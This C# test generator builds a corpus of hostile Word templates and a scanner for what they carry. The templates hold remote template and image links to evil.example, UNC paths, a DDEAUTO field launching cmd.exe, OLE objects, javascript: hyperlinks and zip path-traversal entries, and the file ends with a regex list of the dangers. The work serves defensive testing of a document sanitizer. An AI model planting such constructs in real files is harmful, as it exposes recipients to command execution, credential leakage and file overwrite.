using System.IO.Compression;
using System.Text;
using System.Text.RegularExpressions;

namespace OfficeReview.HostileCorpus;

// Item 5: user templates carrying dangerous content into approved documents.
public sealed partial class HostileCorpusGenerator
{
    private const string RelNs = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private const string DocumentRels = "word/_rels/document.xml.rels";

    private Package TemplateWith(string rels = "", string body = "", string contentTypes = "")
    {
        var t = Template();
        if (rels.Length > 0) t.Edit(DocumentRels, x => x.Replace("</Relationships>", rels + "</Relationships>"));
        if (body.Length > 0) t.Edit("word/document.xml", x => ReplaceFirst(x, "<w:body>", "<w:body>" + body));
        if (contentTypes.Length > 0) t.Edit("[Content_Types].xml", x => x.Replace("</Types>", contentTypes + "</Types>"));
        return t;
    }

    private void Templates()
    {
        const int item = 5;
        void Add(string name, Package p, string note, string ext = "docx") =>
            _out.Add($"template-{name}.{ext}", p.ToZip(), E(Targets.GenerateTemplate, item, Expected.FindingsWithErrors,
                note + "; the generated document must not carry it (removed and reported, or the template refused)") with
            { HttpSkip = "no HTTP route takes a user template", Accept = "sanitized" });

        var vba = RandomBytes(4096);
        Add("macro-vbaproject", TemplateWith(
            rels: $"<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/>",
            contentTypes: "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>").Set("word/vbaProject.bin", vba), "a VBA project part (word/vbaProject.bin)");
        Add("macro-docm", TemplateWith(
            rels: "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/>",
            contentTypes: "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>").Edit("[Content_Types].xml", x => ReplaceFirst(x, "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))
            .Set("word/vbaProject.bin", vba), "a macro-enabled main part (.docm content type) renamed .docx");
        Add("macro-dotm", TemplateWith(rels: "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/>").Set("word/vbaProject.bin", vba), "a macro template saved as .dotm", "dotm");

        foreach (var (target, name) in new[] { ("http://evil.example/t.dotm", "http"), ("file:///C:/Users/Public/t.dotm", "file"), ("\\\\evil.example\\share\\t.dotm", "unc") })
        {
            var t = Template();
            t.Edit("word/settings.xml", x => x.Replace("<w:settings ", $"<w:settings xmlns:r=\"{RelNs}\" ").Replace("<w:zoom", "<w:attachedTemplate r:id=\"rIdTpl\"/><w:zoom"));
            t.Set("word/_rels/settings.xml.rels", $"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rIdTpl\" Type=\"{RelNs}/attachedTemplate\" Target=\"{System.Security.SecurityElement.Escape(target)}\" TargetMode=\"External\"/></Relationships>");
            Add($"attached-template-{name}", t, $"settings.xml attachedTemplate pointing at {target}");
        }
        foreach (var (target, name) in new[] { ("http://evil.example/pixel.png", "http"), ("file:///etc/passwd", "file"), ("\\\\evil.example\\share\\a.png", "unc") })
        {
            var drawing = "<w:p><w:r><w:drawing><wp:inline xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing\"><wp:extent cx=\"9525\" cy=\"9525\"/><wp:docPr id=\"99\" name=\"p\"/>" +
                "<a:graphic xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:pic xmlns:pic=\"http://schemas.openxmlformats.org/drawingml/2006/picture\">" +
                $"<pic:nvPicPr><pic:cNvPr id=\"0\" name=\"p\"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link=\"rIdImg\"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>";
            Add($"external-image-{name}", TemplateWith(rels: $"<Relationship Id=\"rIdImg\" Type=\"{RelNs}/image\" Target=\"{System.Security.SecurityElement.Escape(target)}\" TargetMode=\"External\"/>",
                body: drawing).Edit("word/document.xml", x => x.Contains("xmlns:r=") ? x : x.Replace("<w:document ", $"<w:document xmlns:r=\"{RelNs}\" ")), $"an image linked to {target}");
        }
        Add("includepicture-simple", TemplateWith(body: "<w:p><w:fldSimple w:instr=\" INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d \"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"), "an INCLUDEPICTURE field (fldSimple) fetching http://evil.example");
        Add("includepicture-complex", TemplateWith(body: Field(" INCLUDEPICTURE \"\\\\\\\\evil.example\\\\share\\\\x.png\" \\d ")), "an INCLUDEPICTURE field (complex) on a UNC path");
        Add("includetext", TemplateWith(body: Field(" INCLUDETEXT \"file:///C:/Windows/win.ini\" ")), "an INCLUDETEXT field reading file:///C:/Windows/win.ini");
        Add("ddeauto", TemplateWith(body: Field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" ")), "a DDEAUTO field starting cmd.exe");
        Add("dde", TemplateWith(body: "<w:p><w:fldSimple w:instr=\" DDE excel &quot;C:\\\\a.xls&quot; R1C1 \"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"), "a DDE field");
        Add("altchunk-html", TemplateWith(rels: $"<Relationship Id=\"rIdAlt\" Type=\"{RelNs}/aFChunk\" Target=\"/word/chunk.html\"/>",
            body: "<w:altChunk r:id=\"rIdAlt\"/>", contentTypes: "<Override PartName=\"/word/chunk.html\" ContentType=\"text/html\"/>")
            .Edit("word/document.xml", x => x.Contains("xmlns:r=") ? x : x.Replace("<w:document ", $"<w:document xmlns:r=\"{RelNs}\" "))
            .Set("word/chunk.html", "<html><body><img src=\"http://evil.example/beacon.png\"><script>alert(1)</script></body></html>"), "an altChunk importing HTML with a remote image and a script");
        Add("altchunk-external", TemplateWith(rels: $"<Relationship Id=\"rIdAlt\" Type=\"{RelNs}/aFChunk\" Target=\"http://evil.example/chunk.mht\" TargetMode=\"External\"/>", body: "<w:altChunk r:id=\"rIdAlt\"/>")
            .Edit("word/document.xml", x => x.Contains("xmlns:r=") ? x : x.Replace("<w:document ", $"<w:document xmlns:r=\"{RelNs}\" ")), "an external altChunk");
        Add("ole-object", TemplateWith(rels: $"<Relationship Id=\"rIdOle\" Type=\"{RelNs}/oleObject\" Target=\"embeddings/oleObject1.bin\"/>",
            body: "<w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" Type=\"Embed\" ProgID=\"Package\" ShapeID=\"_x0000_i1025\" DrawAspect=\"Icon\" ObjectID=\"_1\" r:id=\"rIdOle\"/></w:object></w:r></w:p>",
            contentTypes: "<Override PartName=\"/word/embeddings/oleObject1.bin\" ContentType=\"application/vnd.openxmlformats-officedocument.oleObject\"/>")
            .Edit("word/document.xml", x => x.Contains("xmlns:r=") ? x : x.Replace("<w:document ", $"<w:document xmlns:r=\"{RelNs}\" "))
            .Set("word/embeddings/oleObject1.bin", OleCompoundFile(("\u0001Ole10Native", RandomBytes(2048)))), "an embedded OLE package object");
        Add("ole-link", TemplateWith(rels: $"<Relationship Id=\"rIdOle\" Type=\"{RelNs}/oleObject\" Target=\"file:///C:/secret.xlsx\" TargetMode=\"External\"/>",
            body: "<w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" Type=\"Link\" ProgID=\"Excel.Sheet.12\" r:id=\"rIdOle\" UpdateMode=\"Always\"/></w:object></w:r></w:p>")
            .Edit("word/document.xml", x => x.Contains("xmlns:r=") ? x : x.Replace("<w:document ", $"<w:document xmlns:r=\"{RelNs}\" ")), "a linked OLE object to file:///C:/secret.xlsx, updated always");
        foreach (var (target, name) in new[] { ("file:///C:/Windows/System32/calc.exe", "file"), ("\\\\evil.example\\share\\doc.docx", "unc"), ("javascript:alert(1)", "javascript") })
            Add($"hyperlink-{name}", TemplateWith(rels: $"<Relationship Id=\"rIdLink\" Type=\"{RelNs}/hyperlink\" Target=\"{System.Security.SecurityElement.Escape(target)}\" TargetMode=\"External\"/>",
                body: "<w:p><w:hyperlink r:id=\"rIdLink\"><w:r><w:t>Xem văn bản</w:t></w:r></w:hyperlink></w:p>")
                .Edit("word/document.xml", x => x.Contains("xmlns:r=") ? x : x.Replace("<w:document ", $"<w:document xmlns:r=\"{RelNs}\" ")), $"a hyperlink to {target}");
        Add("dotdot-entry", Template().Set("../../evil.txt", "ra ngoài thư mục").Set("word/../../../etc/cron.d/x", "* * * * * root true"), "zip entries named ../../evil.txt and word/../../../etc/cron.d/x");
        Add("absolute-entry", Template().Set("/etc/passwd", "root:x:0:0").Set("C:\\Windows\\evil.dll", "MZ"), "zip entries with absolute names (/etc/passwd, C:\\Windows\\evil.dll)");
        Add("custom-xml-external", TemplateWith(rels: $"<Relationship Id=\"rIdX\" Type=\"{RelNs}/customXml\" Target=\"http://evil.example/item.xml\" TargetMode=\"External\"/>"), "a customXml relationship to an external URL");
        Add("frameset", TemplateWith(rels: $"<Relationship Id=\"rIdWs\" Type=\"{RelNs}/webSettings\" Target=\"webSettings.xml\"/>")
            .Set("word/webSettings.xml", $"<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:webSettings xmlns:w=\"{Seeds.WordMain}\" xmlns:r=\"{RelNs}\"><w:frameset><w:frame><w:sourceFileName r:id=\"rIdF\"/></w:frame></w:frameset></w:webSettings>")
            .Set("word/_rels/webSettings.xml.rels", $"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rIdF\" Type=\"{RelNs}/frame\" Target=\"http://evil.example/frame.docx\" TargetMode=\"External\"/></Relationships>"),
            "a frameset loading http://evil.example/frame.docx");
        Add("everything", TemplateWith(
            rels: $"<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/><Relationship Id=\"rIdImg\" Type=\"{RelNs}/image\" Target=\"http://evil.example/p.png\" TargetMode=\"External\"/>",
            body: Field(" DDEAUTO cmd \"/c calc\" ") + Field(" INCLUDEPICTURE \"http://evil.example/x.png\" ")).Set("word/vbaProject.bin", vba).Set("../x.txt", "x"),
            "macros, an external image, DDEAUTO, INCLUDEPICTURE and a ../ entry together");
    }

    private static string Field(string instruction) =>
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\">" + System.Security.SecurityElement.Escape(instruction) +
        "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";

    /// <summary>What in a generated .docx came from a dangerous template: every match is a reason the document is unsafe.</summary>
    public static IReadOnlyList<string> DangerousContent(byte[] docx)
    {
        var found = new List<string>();
        try
        {
            using var zip = new ZipArchive(new MemoryStream(docx), ZipArchiveMode.Read);
            foreach (var e in zip.Entries)
            {
                var name = e.FullName;
                if (name.Contains("..") || name.StartsWith('/') || name.Contains('\\') || name.Contains(':')) found.Add($"entry name {name}");
                if (name.EndsWith(".bin", StringComparison.OrdinalIgnoreCase) || name.Contains("vbaProject", StringComparison.OrdinalIgnoreCase)) found.Add($"binary part {name}");
                if (name.EndsWith(".html", StringComparison.OrdinalIgnoreCase) || name.Contains("webSettings", StringComparison.OrdinalIgnoreCase)) found.Add($"part {name}");
                if (e.Length > 64 * 1024 * 1024) { found.Add($"part {name} of {e.Length} bytes"); continue; }
                using var s = e.Open();
                using var ms = new MemoryStream();
                s.CopyTo(ms);
                var text = Encoding.UTF8.GetString(ms.ToArray());
                foreach (var (pattern, what) in s_dangers)
                    if (Regex.IsMatch(text, pattern, RegexOptions.IgnoreCase)) found.Add($"{what} in {name}");
            }
        }
        catch (InvalidDataException) { found.Add("not a readable zip"); }
        return found;
    }

    private static readonly (string Pattern, string What)[] s_dangers =
    [
        ("TargetMode=\"External\"", "an external relationship"),
        ("attachedTemplate", "attachedTemplate"),
        ("INCLUDEPICTURE|INCLUDETEXT", "an INCLUDE field"),
        (@"\bDDE(AUTO)?\b", "a DDE field"),
        ("altChunk|aFChunk", "an altChunk"),
        ("oleObject|<w:object", "an OLE object"),
        ("vbaProject|macroEnabled", "macros"),
        ("file:///|\\\\\\\\evil", "a file:// or UNC link"),
        ("javascript:", "a javascript: link"),
        ("evil\\.example", "the attacker's host"),
    ];
}
